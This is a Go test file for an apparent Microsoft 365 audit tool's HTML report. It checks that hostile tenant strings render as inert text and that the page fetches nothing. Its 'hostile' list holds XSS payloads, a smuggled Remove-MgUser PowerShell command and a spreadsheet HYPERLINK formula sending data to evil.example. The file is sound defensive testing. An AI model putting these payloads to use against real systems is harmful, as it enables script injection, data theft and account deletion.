package html

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	xhtml "golang.org/x/net/html"

	m365audit "github.com/m365audit/m365audit"
	"github.com/m365audit/m365audit/checks"
	"github.com/m365audit/m365audit/collectors/snapshot"
	"github.com/m365audit/m365audit/report/model"
)

// hostile are tenant strings that must stay inert text in the report.
var hostile = []string{
	"'; Remove-MgUser -UserId 'x'; '",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`<script>document.title="pwned"</script>`,
	`"><img src=x onerror="document.title='pwned'">`,
	`</style><svg onload=alert(1)>`,
	`javascript:alert(1)`,
	"陳大文",
	"山田太郎",
	"\u200fمحمد علي",
	"\u202eevil\u202c",
	"O’Neil",
	"김민준",
}

func contoso(t testing.TB) (*checks.Document, *snapshot.Snapshot) {
	t.Helper()
	fsys, err := m365audit.SampleTenant()
	if err != nil {
		t.Fatal(err)
	}
	snap, err := snapshot.LoadFS(fsys, snapshot.LoadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	m := snap.Manifest
	doc := checks.Run(snap, checks.RunOptions{ToolVersion: "test", GeneratedAt: time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC),
		Incident: checks.IncidentFrom(m.CollectedAt, m.Incident)})
	return doc, snap
}

// poison puts the hostile strings into every kind of field the report
// shows: tenant, category (also an attribute and a filter option), title,
// summary, affected objects, acceptance, remediation steps.
func poison(doc *checks.Document) {
	doc.Tenant.DisplayName = strings.Join(hostile[:4], " ")
	for i := range doc.Results {
		r := &doc.Results[i]
		if r.Status != checks.StatusFail {
			continue
		}
		r.Category = hostile[3]
		r.Title = hostile[2] + " " + r.Title
		r.Summary = hostile[1] + " " + r.Summary
		r.Remediation.Steps = append(r.Remediation.Steps, hostile[5])
		for _, h := range hostile {
			r.Affected = append(r.Affected, checks.Affected{Kind: "guest", ID: h, Name: h, Detail: h, Actor: h})
		}
		r.Accepted = &checks.Acceptance{Owner: hostile[4], Reason: hostile[0], Expires: hostile[6]}
		break
	}
}

func render(t testing.TB, doc *checks.Document, snap *snapshot.Snapshot) []byte {
	t.Helper()
	rep, err := model.Build(doc, snap, model.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Write(t.Context(), &buf, rep); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// inert parses page like a browser and fails on any element, attribute or
// URL the report does not put there itself: one script (the page's own),
// no event handlers, no images, frames or SVG, no link that leaves the page.
func inert(t *testing.T, page []byte) {
	t.Helper()
	root, err := xhtml.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	scripts := 0
	for n := range root.Descendants() {
		if n.Type != xhtml.ElementNode {
			continue
		}
		switch n.Data {
		case "script":
			scripts++
		case "img", "svg", "iframe", "object", "embed", "link", "base", "form", "video", "audio":
			t.Errorf("injected <%s> element", n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(strings.ToLower(a.Key), "on") {
				t.Errorf("event handler %s=%q on <%s>", a.Key, a.Val, n.Data)
			}
			if (a.Key == "href" || a.Key == "src" || a.Key == "action") && !strings.HasPrefix(a.Val, "#") {
				t.Errorf("<%s %s=%q> leaves the page", n.Data, a.Key, a.Val)
			}
		}
	}
	if scripts != 1 {
		t.Errorf("%d script elements, want the page's own only", scripts)
	}
}

func TestHostileTenantStringsAreInert(t *testing.T) {
	doc, snap := contoso(t)
	poison(doc)
	page := render(t, doc, snap)
	inert(t, page)
	root, err := xhtml.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	// Each hostile string is shown to the reader as the text it is.
	var text strings.Builder
	cats := map[string]bool{}
	for n := range root.Descendants() {
		if n.Type == xhtml.TextNode && n.Parent != nil && n.Parent.Data != "script" && n.Parent.Data != "style" {
			text.WriteString(n.Data)
		}
		if n.Type == xhtml.ElementNode {
			for _, a := range n.Attr {
				if a.Key == "data-cat" {
					cats[a.Val] = true
				}
			}
		}
	}
	for _, h := range hostile {
		if !strings.Contains(text.String(), h) {
			t.Errorf("hostile string %q is not shown as text", h)
		}
	}
	if !cats[hostile[3]] {
		t.Errorf("the category attribute does not hold the category verbatim: %v", cats)
	}
	if bytes.Contains(page, []byte("<script>document")) || bytes.Contains(page, []byte("<img")) {
		t.Error("raw hostile markup in the page")
	}
}

// TestSelfContained: nothing in the page fetches anything; the CSP forbids
// it and allows only the page's script by hash.
func TestSelfContained(t *testing.T) {
	doc, snap := contoso(t)
	page := render(t, doc, snap)
	inert(t, page)
	s := string(page)
	root, err := xhtml.Parse(strings.NewReader(s))
	if err != nil {
		t.Fatal(err)
	}
	csp := ""
	for n := range root.Descendants() {
		if n.Type == xhtml.ElementNode && n.Data == "meta" && attr(n, "http-equiv") == "Content-Security-Policy" {
			csp = attr(n, "content")
		}
	}
	if !strings.Contains(csp, "script-src "+scriptHash()+";") || !strings.Contains(csp, "default-src 'none'") {
		t.Errorf("the Content-Security-Policy %q does not pin the page's script or forbid loads", csp)
	}
	for _, bad := range []string{"@import", "url(", "<link", "fonts.googleapis", "https://", "http://"} {
		if strings.Contains(pageCSS+pageJS, bad) {
			t.Errorf("the page's CSS or script holds %q", bad)
		}
	}
}

// TestSameContentAndOrderAsThePDF: incident, then the summary (score, top
// risks, coverage), then findings with their objects; every check is in
// the table and every fragment link has a target.
func TestSameContentAndOrderAsThePDF(t *testing.T) {
	doc, snap := contoso(t)
	page := string(render(t, doc, snap))
	order := []string{`id="incident"`, "What happened", "<h3>Containment", "<h3>Timeline", `id="summary"`, "<h3>Top risks", "<h3>Coverage", `id="findings"`, `id="checks"`, `class="finding"`, `id="not-evaluated"`, `id="passed"`}
	last := -1
	for _, o := range order {
		i := strings.Index(page, o)
		if i < 0 {
			t.Fatalf("the page lacks %s", o)
		}
		if i < last {
			t.Errorf("%s comes before the part that should precede it", o)
		}
		last = i
	}
	root, _ := xhtml.Parse(strings.NewReader(page))
	ids := map[string]bool{}
	var hrefs []string
	rows := 0
	for n := range root.Descendants() {
		if n.Type != xhtml.ElementNode {
			continue
		}
		for _, a := range n.Attr {
			switch a.Key {
			case "id":
				if ids[a.Val] {
					t.Errorf("duplicate id %s", a.Val)
				}
				ids[a.Val] = true
			case "href":
				hrefs = append(hrefs, a.Val)
			case "data-order":
				rows++
			}
		}
	}
	if rows != len(doc.Results) {
		t.Errorf("the table has %d rows for %d checks", rows, len(doc.Results))
	}
	for _, h := range hrefs {
		if !ids[strings.TrimPrefix(h, "#")] {
			t.Errorf("link %s has no target", h)
		}
	}
	for _, r := range doc.Results {
		if isFinding(r.Status) && !ids[anchor(r.ID)] {
			t.Errorf("finding %s has no detail", r.ID)
		}
	}
	// Every affected object's name (the sample's hostile guest names
	// among them) reaches the findings as text.
	var text strings.Builder
	for n := range root.Descendants() {
		if n.Type == xhtml.TextNode {
			text.WriteString(n.Data)
		}
	}
	named := 0
	for _, r := range doc.Results {
		if !isFinding(r.Status) {
			continue
		}
		for _, a := range r.Affected[:min(len(r.Affected), maxAffected)] {
			if a.Name != "" && !strings.Contains(text.String(), a.Name) {
				t.Errorf("%s: affected %q is not shown", r.ID, a.Name)
			}
			if strings.Contains(a.Name, "Remove-MgUser") {
				named++
			}
		}
	}
	if named == 0 {
		t.Error("the sample's hostile guest name is not among the affected objects")
	}
	// Without an incident the summary opens the report.
	doc.Incident = nil
	for i := range doc.Results {
		doc.Results[i].Incident = false
	}
	page = string(render(t, doc, snap))
	if strings.Contains(page, `id="incident"`) {
		t.Error("an incident section without an incident")
	}
}

func TestDeterministicAndCancellable(t *testing.T) {
	doc, snap := contoso(t)
	a, b := render(t, doc, snap), render(t, doc, snap)
	if !bytes.Equal(a, b) {
		t.Error("two renders differ")
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	rep, err := model.Build(doc, snap, model.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Write(ctx, &buf, rep); !errors.Is(err, context.Canceled) || buf.Len() != 0 {
		t.Errorf("cancelled render: err %v, %d bytes", err, buf.Len())
	}
	if err := Write(t.Context(), &buf, nil); !errors.Is(err, ErrNilDocument) {
		t.Errorf("nil document: %v", err)
	}
}

func writeTemp(t *testing.T, page []byte) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), FileName)
	if err := os.WriteFile(p, page, 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func attr(n *xhtml.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// TestScoreGaugeOneDecimal: the gauge shows the score with one decimal, as
// the console, the workbook and the PDF do (25.5% is not 25%).
func TestScoreGaugeOneDecimal(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		p    float64
		want string
	}{
		{25.5, `<div class="pct" id="score">25.5%</div>`},
		{31.07, `<div class="pct" id="score">31.1%</div>`},
		{100, `<div class="pct" id="score">100.0%</div>`},
	} {
		doc, snap := contoso(t)
		doc.Score.Percent = tc.p
		if page := render(t, doc, snap); !bytes.Contains(page, []byte(tc.want)) {
			t.Errorf("score %v: no %s in the page", tc.p, tc.want)
		}
	}
}
